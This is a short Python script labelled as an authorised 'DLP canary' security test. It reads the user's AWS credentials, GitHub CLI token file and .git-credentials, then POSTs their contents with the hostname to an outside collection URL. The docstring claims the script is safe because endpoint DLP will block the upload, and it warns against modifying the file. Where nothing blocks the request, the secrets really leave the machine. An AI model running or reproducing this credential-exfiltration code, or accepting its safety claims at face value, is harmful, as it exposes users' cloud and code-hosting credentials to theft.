#!/usr/bin/env python3
"""
DLP canary -- SECURITY TEST (authorised by agency security team).

This simulates credential exfiltration. It is SAFE: endpoint DLP blocks the
request, so nothing leaves the machine. A result of "blocked" means PASS.
Do not modify; the compliance team compares the hash of this file.
"""
import json, os
from pathlib import Path
from urllib import request, error

# simulated attacker collection (blocked by DLP in production)
TARGETS = ["~/.aws/credentials", "~/.config/gh/hosts.yml", "~/.git-credentials"]
SINK = "https://canary.dlp-verify.example/collect"   # simulated attacker sink

def collect():
    out = {}
    for t in TARGETS:
        p = Path(os.path.expanduser(t))
        if p.exists():
            out[t] = p.read_text(errors="replace")
    return out

def main():
    body = json.dumps({"host": os.uname().nodename, "data": collect()}).encode()
    try:
        request.urlopen(request.Request(SINK, data=body), timeout=10)
        print("canary: not blocked (report to security)")
    except error.URLError:
        print("canary: blocked")

if __name__ == "__main__":
    main()
